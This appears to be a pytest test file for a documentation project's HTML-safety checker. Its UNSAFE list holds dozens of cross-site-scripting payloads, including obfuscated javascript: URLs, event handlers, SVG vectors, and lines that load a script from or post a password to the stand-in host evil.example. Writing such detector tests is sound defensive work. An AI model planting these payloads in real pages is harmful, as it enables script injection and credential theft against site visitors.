"""노트 검사 — HTML 안전(hooks/checks/html_safety.py): 스크립트를 실행할 수 있는 것은 원문과 렌더링한 HTML 모두에서 막는다."""

from __future__ import annotations

import pytest

from hooks import note_checks
from hooks.note_checks import check_rendered_html
from tests.note_check_helpers import BODY_START, check, note, only

UNSAFE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src="x.png" alt="그림" onerror="alert(1)">',
    '<a href="#" onclick="alert(1)">눌러 보기</a>',
    "[눌러 보기](javascript:alert(1))",
    "[눌러 보기](<javascript:alert(1)>)",
    "[눌러 보기](JaVaScRiPt:alert(1))",
    "[눌러 보기](jav&#97;script:alert(1))",
    "[눌러 보기](data:text/html,<script>alert(1)</script>)",
    "[눌러 보기][x]\n\n[x]: vbscript:msgbox(1)",
    '<a href="jav&#x09;ascript:alert(1)">탭을 끼운 주소</a>',
    '<iframe src="https://www.youtube.com/embed/x"></iframe>',
    '<embed src="x.swf">',
    '<object data="x.pdf"></object>',
    '<form action="https://evil.example"><input name="pw"></form>',
    '<meta http-equiv="refresh" content="0; url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<style>body { background: url(javascript:alert(1)) }</style>",
    '<div style="width: expression(alert(1))">옛 IE</div>',
    '<div style="width: \\65 xpression(alert(1))">CSS 이스케이프로 숨긴 것</div>',
    '<p style="background:url(&quot;javascript:alert(1)&quot;)">x</p>',
    '## 제목 { onclick="alert(1)" }',
    "문단\n{: onmouseover=alert(1) }",
    "<!-- 주석 --!><script>alert(1)</script> -->",
    '<details open ontoggle="alert(1)"><summary>열기</summary></details>',
    "<math><mi>x</mi></math>",
]


@pytest.fixture(scope="module")
def rules():
    return note_checks.load_rules()


@pytest.mark.parametrize("snippet", UNSAFE)
def test_html_that_can_run_script_is_refused(rules, snippet):
    problems = only(check(rules, note(f"첫 줄\n\n{snippet}\n")), "unsafe-html")
    assert problems, snippet
    first = BODY_START + 2
    assert all(first <= p.line <= first + snippet.count("\n") for p in problems)
    assert all(p.path == "docs/dl/example.md" for p in problems)


SAFE = [
    "<div markdown>\n\n**굵게**\n\n</div>",
    '<figure markdown="span">\n  ![그림](a.svg)\n  <figcaption>설명</figcaption>\n</figure>',
    '<abbr title="배치 정규화">BN</abbr>과 <kbd>Ctrl</kbd>',
    "<details><summary>더 보기</summary>\n\n내용\n\n</details>",
    '<svg viewBox="0 0 10 10" role="img"><title>점</title><circle cx="5" cy="5" r="2"/></svg>',
    '<span style="color: #3f51b5">색 글자</span>',
    "<!-- glossary-table -->\n<!-- material/tags -->",
    '<!-- skip: next "GPU 가 있어야 한다" -->\n```python\nmodel.cuda()\n```',
    "`<script>`를 쓰면 안 되는 까닭",
    "```html\n<iframe src=x></iframe>\n```",
    "부등식 \\( a<b \\)와 \\( c>d \\)",
    "<https://peps.python.org/pep-3102/>",
    "[PEP 448](https://peps.python.org/pep-0448/)",
]


@pytest.mark.parametrize("snippet", SAFE)
def test_safe_html_and_our_markers_pass(rules, snippet):
    assert check(rules, note(f"# 제목\n\n{snippet}\n")) == []


def test_markdown_generated_attributes_are_caught_after_rendering_too():
    source = note('# 제목\n\n문단\n{: onclick="alert(1)" }\n')
    rendered = '<h1 id="x">제목</h1>\n<p onclick="alert(1)">문단</p>'
    [problem] = check_rendered_html("dl/example.md", rendered, source)
    assert problem.line == BODY_START + 3 and "onclick" in problem.what


def test_build_output_such_as_tabs_is_not_mistaken_for_unsafe_html():
    rendered = (
        '<div class="tabbed-set" data-tabs="1:2"><input checked="checked" id="__tabbed_1_1" '
        'name="__tabbed_1" type="radio" /><label for="__tabbed_1_1">가</label></div>'
        '<a class="headerlink" href="#제목" title="이 제목의 링크">¶</a>'
    )
    assert check_rendered_html("dl/example.md", rendered, "") == []
